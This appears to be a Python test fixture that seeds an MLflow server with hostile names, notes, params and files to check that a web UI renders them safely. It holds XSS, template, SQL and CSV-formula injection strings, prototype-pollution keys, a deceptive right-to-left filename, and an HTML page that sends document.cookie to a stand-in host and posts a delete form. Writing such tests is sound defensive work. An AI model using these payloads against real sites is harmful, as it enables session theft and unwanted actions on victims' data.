"""Names, values, notes and files that would run, hide or break something on a page that takes them for markup.

Each of them sets `hacked` on the window if it runs, so that a test can look for that; `TEXTS` must be readable as they
stand.
"""

import time

from rest import Rest
from seed_rich import log_files, quiet
from sweeps import point

IMAGE = "<img src=x onerror=window.hacked=1>"
SCRIPT = "<script>window.top.hacked=2</script>"
QUOTES = "\"'`\"><svg onload=window.hacked=3>"
RIGHT_TO_LEFT = "abc\u202egnp.exe\u202c \u05e9\u05dc\u05d5\u05dd"
TEMPLATE = "{{constructor.constructor('window.hacked=4')()}} ${window.hacked=5} <%= 6 %> #{7}"
SQL = "'; DROP TABLE runs; -- \" OR 1=1 %_\\"
EMOJI = "\U0001f469\u200d\U0001f680 \U0001f1ef\U0001f1f5 e\u0301 \U0001d54f"
LINK = "javascript:window.hacked=8"
TEXTS = (IMAGE, SCRIPT, QUOTES, TEMPLATE, SQL, EMOJI, LINK)
# Keys may hold no markup; but they may be the names of what every object has.
KEYS = ("__proto__", "constructor", "hasOwnProperty", "toString", "a.b/c d-e:f", "\u05e9\u05dc\u05d5\u05dd", "k" * 250)

NOTE = f"""\
# {IMAGE}

{SCRIPT}

[a link]({LINK}) [another](JaVaScRiPt:window.hacked=9) [data](data:text/html,<script>window.top.hacked=10</script>)
![picture]({LINK}) ![x" onerror="window.hacked=11](x) <a href="{LINK}" onclick="window.hacked=12">raw</a>

<iframe src="{LINK}"></iframe><style>* {{ display: none }}</style><meta http-equiv="refresh" content="0;url=/away">
<https://example.org/"onmouseover="window.hacked=13> <{LINK}>

```html
<script>window.hacked=14</script>
```

| {IMAGE} | `{SCRIPT}` |
| --- | --- |
| {TEMPLATE} | {RIGHT_TO_LEFT} |

{"[" * 300}{"*" * 300}{"> " * 100}{"- " * 100}

{"word" * 2000}
"""

PAGE = """\
<!doctype html><html><head><title>taken over</title>
<meta http-equiv="refresh" content="1;url=http://203.0.113.7/away">
<link rel="stylesheet" href="http://203.0.113.7/style.css"><script src="http://203.0.113.7/script.js"></script></head>
<body onload="window.top.hacked=20"><h1>Hostile page</h1>
<script>
try { window.top.hacked = 21 } catch (e) {}
try { window.parent.document.title = "taken over" } catch (e) {}
try { window.top.location = "http://203.0.113.7/away" } catch (e) {}
try { fetch("http://203.0.113.7/?" + document.cookie) } catch (e) {}
try { fetch("/api/2.0/mlflow/experiments/search?max_results=1") } catch (e) {}
alert("hacked");
</script>
<img src="http://203.0.113.7/pixel.png"><form action="/api/2.0/mlflow/runs/delete" method="post"><button>go</button>
</form></body></html>
"""

PICTURE = """\
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100"
 onload="window.top.hacked=30"><script>window.top.hacked=31; alert(1)</script>
<image href="http://203.0.113.7/pixel.png" width="5" height="5"/>
<a xlink:href="javascript:window.top.hacked=32"><text x="10" y="50">hostile picture</text></a>
<foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"/>
</body></foreignObject></svg>
"""

FILES: dict[str, str | bytes] = {
    "page.html": PAGE,
    "picture.svg": PICTURE,
    "note.md": NOTE,
    "table.csv": f'{IMAGE},"{SCRIPT}"\n=cmd|calc,@SUM(1)\n"unclosed',
    "broken.json": '{"__proto__": {"hacked": 40}, "a": "' + SCRIPT,
    "deep.json": "[" * 20_000,
    "proto.json": '{"__proto__": {"hacked": 41}, "html": "' + IMAGE + '"}',
    "script.js": "window.top.hacked = 42",
    "not-a.png": SCRIPT,
    f"{IMAGE}.txt": "named like markup",
    "100% & 'quoted' +a=1;b.txt": "named like a query",
    f"{RIGHT_TO_LEFT}.txt": "named from right to left",
    "d" * 250 + "/inner.txt": "in a folder with a long name",
}


def seed_hostile(url: str) -> dict:
    """Ids of the experiment (whose name is `IMAGE` and more), its sweep and the run with the files; the model's name."""
    from mlflow import MlflowClient

    rest = Rest(url)
    now_ms = int(time.time() * 1000)
    name = f"{IMAGE} {SCRIPT} {EMOJI}"
    experiment_id = rest.create_experiment(name, {"mlflow.note.content": NOTE, "quotes": QUOTES})
    rest.create_experiment("long-" + "n" * 495)
    rest.create_experiment(RIGHT_TO_LEFT)
    sweep_id = rest.create_run(experiment_id, f"sweep {QUOTES}", now_ms - 900_000, {"mlflow.note.content": NOTE}, IMAGE)
    run_ids = []
    names = (*TEXTS, RIGHT_TO_LEFT, "r" * 3000, "two\nlines\tand a tab", " ", "constructor")
    for number, run_name in enumerate(names):
        start_ms = now_ms - 800_000 + number * 20_000
        tags = {"mlflow.parentRunId": sweep_id, "mlflow.source.name": IMAGE, "mlflow.user": SCRIPT}
        run_id = rest.create_run(experiment_id, run_name, start_ms, tags, SCRIPT)
        run_ids.append(run_id)
        params = {key: (*TEXTS, RIGHT_TO_LEFT)[(number + at) % 8] for at, key in enumerate(KEYS)}
        params |= {"lr": f"{0.1 / (number + 1):.4g}", "long": "v" * 6000}
        points = [point(key, (number + at) % 7 / 7, start_ms + 5000) for at, key in enumerate(KEYS)]
        points += [
            point("loss", 1 / (number + 1), start_ms + 5000),
            point("huge", 1.7976931348623157e308, start_ms + 5000),
            point("tiny", -5e-324, start_ms + 5000),
            point("not a number", "NaN", start_ms + 5000),
        ]
        rest.log_batch(run_id, points, params, {key: TEXTS[at % len(TEXTS)] for at, key in enumerate(KEYS)})
        rest.end_run(run_id, "FINISHED", start_ms + 10_000)
    hostile_id = run_ids[0]
    rest.log_batch(hostile_id, tags={"mlflow.note.content": NOTE, "link": LINK})
    rest.end_run(sweep_id, "FINISHED", now_ms - 10_000)
    rest.close()
    log_files(url, hostile_id, FILES)
    client = MlflowClient(url)
    model = f"{IMAGE} {EMOJI}"
    with quiet(url):
        client.create_registered_model(model, {"quotes": QUOTES, "__proto__": SCRIPT}, NOTE)
        for number in (1, 2):
            source = f"runs:/{hostile_id}/page.html"
            client.create_model_version(model, source, hostile_id, {"tag": TEMPLATE}, description=f"{NOTE}{number}")
        client.set_registered_model_alias(model, "__proto__", "1")
        client.create_registered_model("m" * 250)
        for text in (f"{SCRIPT}\n{IMAGE} {{{{name}}}}", f"{SCRIPT}\n{QUOTES} {{{{name}}}} {TEMPLATE}"):
            client.register_prompt("hostile.prompt", text, commit_message=f"{IMAGE} {SQL}", tags={"x": SCRIPT})
    return {
        "experiment": experiment_id,
        "experiment_name": name,
        "sweep": sweep_id,
        "run": hostile_id,
        "runs": run_ids,
        "model": model,
        "prompt": "hostile.prompt",
        "files": list(FILES),
    }
